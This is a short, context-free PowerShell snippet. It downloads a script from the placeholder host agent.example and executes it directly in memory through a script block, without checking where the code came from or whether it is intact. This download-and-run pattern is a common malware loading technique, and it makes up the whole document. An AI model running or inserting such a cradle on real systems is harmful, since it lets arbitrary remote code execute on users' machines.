$u = 'https://agent.example/setup.ps1'
$wc = New-Object System.Net.WebClient
$code = $wc.DownloadString($u)
& ([scriptblock]::Create($code))
